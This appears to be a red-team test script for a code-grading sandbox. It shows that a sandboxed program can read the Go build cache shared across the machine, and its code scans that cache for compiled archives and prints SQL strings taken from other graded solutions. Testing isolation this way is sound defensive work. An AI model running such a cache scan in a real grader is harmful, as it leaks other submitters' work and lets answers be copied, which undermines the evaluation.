# Red team round 4: a sandboxed program reads the Go build cache that every
# sandboxed Go build of the machine shares (/var/cache/nplus1/sandbox/gocache,
# root's SandboxCache), and with it the compiled packages of the solutions
# graded before it, in the same batch or not: their SQL, their strings,
# their code. It prints the SQL it finds and exits, so the card shows it.
import glob, os, re, sys

base = "/var/cache/nplus1/sandbox/gocache"
print(base, "->", len(os.listdir(base)), "entries", flush=True)
found = set()
for f in glob.glob(base + "/*/*-d"):
    try:
        with open(f, "rb") as fh:
            b = fh.read(4 << 20)
    except OSError as e:
        print("read", f, e, flush=True)
        break
    if not b.startswith(b"!<arch>") or b"main" not in b[:4096]:
        continue
    for m in re.finditer(rb"(?i)select [ -~]{10,200}? from (orders|users|items|posts|comments)[ -~]{0,120}", b):
        found.add((m.group(0).decode(), os.path.basename(f)[:12]))
for sql, f in sorted(found)[:12]:
    print("another solution's SQL:", f, sql, flush=True)
print(len(found), "SQL strings of other solutions", flush=True)
sys.exit(1)
